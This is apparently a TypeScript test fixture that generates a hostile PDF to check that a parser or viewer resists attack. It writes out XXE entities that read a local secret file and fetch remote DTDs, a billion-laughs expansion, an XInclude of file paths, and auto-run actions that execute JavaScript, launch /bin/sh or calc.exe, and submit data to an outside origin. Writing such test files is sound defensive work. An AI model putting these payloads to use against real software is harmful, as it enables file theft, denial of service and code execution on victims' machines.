import { makePdf } from './make-pdf.ts';

/** The targets of a hostile file. */
interface Aims {
  /** An external site that must not be requested. */
  readonly origin: string;
  /** A local file that must not be read. */
  readonly secretPath: string;
  /** Markup used as its title and author. */
  readonly words: string;
}

const LAUGHS = Array.from(
  { length: 12 },
  (_, depth) => `<!ENTITY l${depth + 1} "${`&l${depth};`.repeat(10)}">`,
).join('');

/** A PDF with XML that fetches, reads and expands entities, and with actions that run, launch, open and attach. */
export function hostilePdf({ origin, secretPath, words }: Aims): Buffer {
  const script = `app.alert(1); app.launchURL("${origin}/script"); this.submitForm("${origin}/form");`;
  const actions = [
    `<< /S /JavaScript /JS (${escaped(script)}) >>`,
    '<< /S /Launch /F (/bin/sh) /Win << /F (calc.exe) /O (open) >> >>',
    `<< /S /URI /URI (${origin}/uri) >>`,
    '<< /S /URI /URI (javascript:alert\\(1\\)) >>',
    `<< /S /SubmitForm /F << /FS /URL /F (${origin}/submit) >> >>`,
    `<< /S /GoToR /F (${escaped(secretPath)}) /D [0 /Fit] >>`,
    `<< /S /ImportData /F (${escaped(secretPath)}) >>`,
  ];
  const chained = actions.map((one, at) =>
    one.replace(/ >>$/, at === 0 ? ` /Next [${actions.slice(1).join(' ')}] >>` : ' >>'),
  );
  const attached = '<< /Type /Filespec /F (page.html) /EF << /F ATTACHED >> >>';
  return makePdf({
    metadata: metadataOf(origin, secretPath, words),
    head: `/OpenAction ${chained[0]} /AA << /WC ${actions[0]} /DC ${actions[1]} >> /Names << /EmbeddedFiles << /Names [(page.html) ${attached}] >> /JavaScript << /Names [(x) ${actions[0]}] >> >> /AcroForm << /Fields [] /NeedAppearances true /XFA [(template) ATTACHED] >>`,
    annotations: actions.map(
      (action) =>
        `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 4] /A ${action} /AA << /E ${action} /PO ${action} >> >>`,
    ),
    pages: [['Une page lisible.', words]],
  });
}

function metadataOf(origin: string, secretPath: string, words: string): string {
  const said = words.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
  return `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>
<?xml-stylesheet type="text/xsl" href="${origin}/style.xsl"?>
<!DOCTYPE x:xmpmeta SYSTEM "${origin}/x.dtd" [<!ENTITY l0 "ha">${LAUGHS}<!ENTITY secret SYSTEM "file://${secretPath}"><!ENTITY outside SYSTEM "${origin}/entity"><!ENTITY % more SYSTEM "${origin}/more.dtd"> %more;]>
<x:xmpmeta xmlns:x="adobe:ns:meta/" xmlns:xi="http://www.w3.org/2001/XInclude"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">
<dc:title><rdf:Alt><rdf:li xml:lang="x-default">${said} &secret;&outside;&l12;<xi:include href="file://${secretPath}" parse="text"/></rdf:li></rdf:Alt></dc:title>
<dc:creator><rdf:Seq><rdf:li>${said}</rdf:li></rdf:Seq></dc:creator>
</rdf:Description></rdf:RDF></x:xmpmeta>
<?xpacket end="w"?>`;
}

const escaped = (text: string) => text.replaceAll(/[()\\]/g, '\\$&');
